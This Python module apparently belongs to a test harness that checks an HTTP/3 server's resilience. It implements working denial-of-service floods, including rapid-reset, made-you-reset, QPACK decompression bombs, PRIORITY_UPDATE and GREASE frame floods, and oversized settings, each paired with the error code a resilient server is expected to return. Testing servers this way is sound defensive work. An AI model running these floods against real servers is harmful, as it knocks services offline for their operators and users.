"""Floods of requests, fields and HTTP/3 frames."""

import time

from aioquic.h3.connection import encode_frame
from attack import Attack
from flooder import Flooder, flood, packed
from peer import (
    CONTROL, ENCODER, GET, POST, data, headers, max_stream_data, request, request_section, reset_stream, stop_sending,
    stream, varint,
)

GREASE = 0x21
PRIORITY_UPDATE = 0xF0700
DOWNLOAD = request("/stream/100000?checksum=off")
# The id of the 2000th stream.
MANY_STREAMS = 4 * 2000
CONTENT_LENGTH_10 = b"\x54\x0210"
# A field line of two bytes for 54 bytes of name and value: x-frame-options of the static table, and others like it.
INDEXED_FIELD = b"\xff\x16"


def requests(head, fin=True, behind=lambda peer: b""):
    """A flood of requests, each with frames right behind it."""

    def one(peer):
        frame = peer.open(head, fin)
        return None if frame is None else frame + behind(peer)

    def act(url, until):
        peer = Flooder(url)
        enough = lambda: peer.next_bidi > MANY_STREAMS
        found = peer.flood(packed(lambda: one(peer)), until, enough=enough, repeats=True)
        return found | {"streams": peer.next_bidi // 4}

    return act


def reset_behind(peer):
    return reset_stream(peer.opened, final_size=peer.offsets[peer.opened])


def late_resets(url, until):
    """Each request is taken before its reset comes."""
    peer = Flooder(url)
    taken = []

    def make():
        frames = b"".join(reset_stream(old, final_size=len(DOWNLOAD)) + stop_sending(old) for old in taken)
        taken.clear()
        while len(frames) < 1100 and (frame := peer.open(DOWNLOAD)) is not None:
            frames += frame
            taken.append(peer.opened)
        return frames or None

    found = peer.flood(make, until, enough=lambda: peer.next_bidi > MANY_STREAMS, repeats=True)
    return found | {"streams": peer.next_bidi // 4}


def bursts(url, until):
    """Again and again a connection whose requests come all at once."""
    rounds = 0
    while time.monotonic() < until:
        peer = Flooder(url)
        make = packed(lambda: peer.open(request(), True))
        packets = []
        while (frames := make()) is not None:
            packets.append(peer.short(frames))
        for packet in packets:
            peer.socket.send(packet)
        found = peer.end()
        rounds += 1
        if found["close"] is not None:
            break
    return found | {"rounds": rounds}


def on_stream(stream_id, first, part, then=b"", times=None):
    """A stream that begins with some bytes and goes on with the same part, for ever or so many times."""

    def act(url, until):
        peer = Flooder(url)
        if first:
            peer.put(peer.more(stream_id, first) + then)
        peer.next_bidi = 4
        most = None if times is None else len(first) + times * len(part)
        return peer.flood(
            lambda: peer.more(stream_id, part) if most is None or peer.offsets[stream_id] < most else None, until
        )

    return act


def bomb(url, until):
    """A section that is 27 times as large when it is decoded."""
    section = headers(request_section(further=INDEXED_FIELD * 4000))
    peer = Flooder(url)
    frames = []
    for _ in range(8):
        peer.opened = peer.next_bidi
        peer.next_bidi += 4
        frames += [(peer.opened, section[at:at + 1000]) for at in range(0, len(section), 1000)]
    left = iter(frames)

    def make():
        following = next(left, None)
        return None if following is None else peer.more(*following)

    return peer.flood(make, until, burst=4)


def trailers_bomb(url, until):
    trailers = headers(b"\0\0" + INDEXED_FIELD * 4000)
    content = request("/upload", POST) + data(b"x") + trailers
    parts = iter([content[at:at + 1000] for at in range(0, len(content), 1000)])
    peer = Flooder(url)
    peer.next_bidi = 4

    def make():
        following = next(parts, None)
        return None if following is None else peer.more(0, following)

    return peer.flood(make, until, burst=4)


def unfinished_heads(url, until):
    """On each stream all but the last byte of the largest head."""
    peer = Flooder(url)
    size = 60_000
    begin = headers(b"")[:1] + varint(size) + request_section(further=b"\x27\xf9\xff\x7f")
    at = {"stream": None, "left": 0}

    def make():
        if at["left"] == 0:
            if peer.open(b"") is None:
                return None
            at.update(stream=peer.opened, left=size - len(begin))
            return peer.more(peer.opened, begin)
        part = min(1000, at["left"] - 1)
        frame = peer.more(at["stream"], b"a" * part) if part else None
        if frame is not None:
            at["left"] -= part
        if at["left"] == 1:
            at["left"] = 0
        return frame

    return peer.flood(make, until, burst=8, pause=0.001) | {"streams": peer.next_bidi // 4}


def hoarded(path, streams_at_most):
    """Large responses, whose bytes nobody acknowledges, or whose window is closed."""

    def act(url, until):
        peer = Flooder(url, acknowledges=False)
        left = streams_at_most

        def one():
            nonlocal left
            frame = peer.open(request(path), fin=True) if left else None
            left -= 1 if frame else 0
            return None if frame is None else frame + max_stream_data(peer.opened, 1 << 40)

        return peer.flood(packed(one), until) | {"streams": peer.next_bidi // 4}

    return act


def settings_of(entries):
    payload = b"".join(varint(GREASE + 31 * n) + varint(n) for n in range(entries))
    content = b"\0" + encode_frame(0x4, payload)

    def act(url, until):
        parts = iter([content[at:at + 1000] for at in range(0, len(content), 1000)])
        peer = Flooder(url, settings=None)

        def make():
            following = next(parts, None)
            return None if following is None else peer.more(CONTROL, following)

        return peer.flood(make, until, burst=4)

    return act


def priority_updates(limit):
    """PRIORITY_UPDATE for one stream after the other, to the limit and then from the beginning."""

    def act(url, until):
        peer = Flooder(url)
        following = 0

        def make():
            nonlocal following
            frames = b""
            while len(frames) < 800:
                frames += encode_frame(PRIORITY_UPDATE, varint(following) + b"u=1")
                following = (following + 4) % limit
            return peer.more(CONTROL, frames)

        return peer.flood(make, until)

    return act


def uni_streams(content, fin, least=0):
    def act(url, until):
        peer = Flooder(url)
        enough = lambda: peer.next_uni > 4 * least
        found = peer.flood(packed(lambda: peer.open_uni(content, fin)), until, enough=enough, repeats=least > 0)
        return found | {"streams": peer.next_uni // 4}

    return act


# More than a connection may have at a time, which is 1000.
MANY = {"streams": lambda count: count >= 2000}
# The server bears a thousand.
MANY_ABORTED = {"streams": lambda count: count >= 1000}
LOAD = "H3_EXCESSIVE_LOAD"

ATTACKS = [
    Attack("request-flood", "GET as fast as possible, for comparison", requests(request()), found=MANY, too_many=True),
    Attack(
        "rapid-reset", "requests with RESET_STREAM right behind (CVE-2023-44487)",
        requests(DOWNLOAD, False, reset_behind), resets=("H3_REQUEST_CANCELLED",), found=MANY_ABORTED, close=LOAD,
    ),
    Attack(
        "rapid-reset-late", "requests with RESET_STREAM and STOP_SENDING in the next packet (CVE-2023-44487)",
        late_resets, resets=("H3_REQUEST_CANCELLED",), found=MANY_ABORTED, close=LOAD,
    ),
    Attack(
        "rapid-stop", "requests with STOP_SENDING right behind (CVE-2023-44487)",
        requests(DOWNLOAD, True, lambda peer: stop_sending(peer.opened)), resets=("H3_REQUEST_CANCELLED",), found=MANY,
    ),
    Attack(
        "made-you-reset", "malformed requests, which the server resets (CVE-2025-8671)",
        requests(request(further=GET)), resets=("H3_MESSAGE_ERROR",), found=MANY_ABORTED, close=LOAD,
    ),
    Attack(
        "made-you-reset-length", "bodies that do not fit their content-length (CVE-2025-8671)",
        requests(request("/upload", POST, CONTENT_LENGTH_10) + data(b"abc")), resets=("H3_MESSAGE_ERROR",),
        found=MANY_ABORTED, close=LOAD, too_many=True, seconds=5,
        # The demo's route has a buffer of 64 KiB for each of a hundred requests.
        memory=20,
    ),
    Attack("bursts", "connections with a thousand requests at once", bursts, too_many=True),
    Attack("qpack-bomb", "8 kB that are 216 kB of fields (CVE-2025-64702)", bomb, close="H3_EXCESSIVE_LOAD"),
    Attack("qpack-bomb-trailers", "the same in trailers (CVE-2026-40898)", trailers_bomb, close="H3_EXCESSIVE_LOAD"),
    Attack(
        "unfinished-heads", "1000 heads of 60 kB without their last byte", unfinished_heads, memory=10, seconds=4,
        close="H3_EXCESSIVE_LOAD",
    ),
    Attack(
        "encoder-stream", "instructions of QPACK for a table that is not there",
        on_stream(ENCODER, b"\2", b"\x41a\x01b" * 250),
    ),
    Attack(
        "priority-update", "PRIORITY_UPDATE for streams that are not open",
        priority_updates(1 << 29), close="H3_ID_ERROR",
    ),
    Attack("priority-update-again", "the same within the limit of streams", priority_updates(3996)),
    Attack("grease-control", "empty frames of unknown type on the control stream",
           on_stream(CONTROL, b"", encode_frame(GREASE, b"") * 500)),
    Attack("grease-request", "empty frames of unknown type on a request stream",
           on_stream(0, b"", encode_frame(GREASE, b"") * 500)),
    Attack(
        "large-unknown-frame", "a frame of unknown type of 16 MiB",
        on_stream(0, varint(GREASE) + varint((16 << 20) - 1), bytes(1000), times=16_000),
    ),
    Attack("empty-data", "empty DATA frames", on_stream(0, request("/upload", POST), data(b"") * 500)),
    Attack(
        "tiny-data", "DATA frames of one byte, which are echoed",
        on_stream(0, request("/api/echo", POST), data(b"x") * 300, max_stream_data(0, 1 << 40)),
        # Windows that grow with the rate.
        memory=40,
    ),
    Attack("settings", "20 000 settings", settings_of(20_000), close="H3_FRAME_ERROR"),
    Attack("uni-unknown", "streams of an unknown type", uni_streams(varint(GREASE) + b"x" * 20, True)),
    Attack("uni-open", "streams of an unknown type without an end", uni_streams(varint(GREASE) + b"x" * 20, False)),
    Attack("uni-typeless", "streams with half of a type", uni_streams(b"\x40", False)),
    Attack("uni-empty", "streams that end before their type", uni_streams(b"", True, 2000), found=MANY),
    Attack(
        "data-behind-end", "bytes behind the end of a stream",
        flood(lambda _: stream(0, b"x", 100), lambda peer: peer.put(stream(0, request(), 0, True)), full=False),
        close="FINAL_SIZE_ERROR",
    ),
    Attack(
        "unacknowledged-responses", "large responses, of which nothing is acknowledged",
        hoarded("/stream/1000000000?checksum=off", 1000), resets=("H3_REQUEST_REJECTED",),
    ),
]
